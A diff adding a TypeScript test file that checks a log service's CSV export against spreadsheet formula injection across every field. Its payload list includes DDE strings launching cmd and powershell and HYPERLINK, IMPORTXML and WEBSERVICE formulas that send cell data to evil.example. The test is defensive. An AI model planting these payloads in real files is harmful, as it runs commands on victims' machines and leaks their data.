@@ -1,0 +1,54 @@
+/** Texts that a spreadsheet would run as formulas, in every field, through the CSV export. */
+import { expect, test } from 'vitest'
+import { startApp } from '../harness.ts'
+import { ingest } from './client.ts'
+import { noteResult } from './row.ts'
+
+const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠']
+const FORMULAS = [
+  '1+1',
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("http://evil.example/?"&A1,"click")',
+  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+  'WEBSERVICE("http://evil.example/")',
+  'SUM(1,2)*cmd|\' /C powershell\'!"A1"',
+  'DDE("cmd","/C calc","x")',
+  '2+5+cmd|\' /C calc\'!A0","other cell',
+  'A1,=B1',
+  '1\r\n=2',
+]
+const PAYLOADS = STARTS.flatMap((start) => FORMULAS.map((formula) => start + formula))
+
+const FIELDS = ['message', 'resourceId', 'traceId', 'spanId', 'commit'] as const
+
+/** Rows of cells, as RFC 4180 has them. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [[]]
+  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
+    if (end !== ',') rows.push([])
+  }
+  return rows.slice(0, -1)
+}
+
+test('B10: no cell of a CSV export is a formula', async () => {
+  await using app = await startApp()
+  const logs = PAYLOADS.map((payload) => ({
+    ...Object.fromEntries(FIELDS.map((field) => [field, payload])),
+    metadata: { parentResourceId: payload, [payload]: payload },
+  }))
+  expect((await ingest(app.url, JSON.stringify(logs))).status).toBe(201)
+  const text = await (await fetch(`${app.url}/export?format=csv`)).text()
+  const [names = [], ...rows] = parseCsv(text)
+  expect(rows).toHaveLength(PAYLOADS.length)
+  const seen = new Set<string>()
+  for (const row of rows) {
+    expect(row).toHaveLength(names.length)
+    for (const cell of row) expect(cell).toMatch(/^['{\w]/)
+    const texts = [...FIELDS, 'parentResourceId'].map((field) => row[names.indexOf(field)] ?? '')
+    expect(new Set(texts).size).toBe(1)
+    seen.add(texts[0]?.slice(1) ?? '')
+  }
+  expect(seen).toEqual(new Set(PAYLOADS))
+  await noteResult('B10', `CSV: ${PAYLOADS.length} formulas in ${FIELDS.length + 1} fields: every cell is text`)
+})
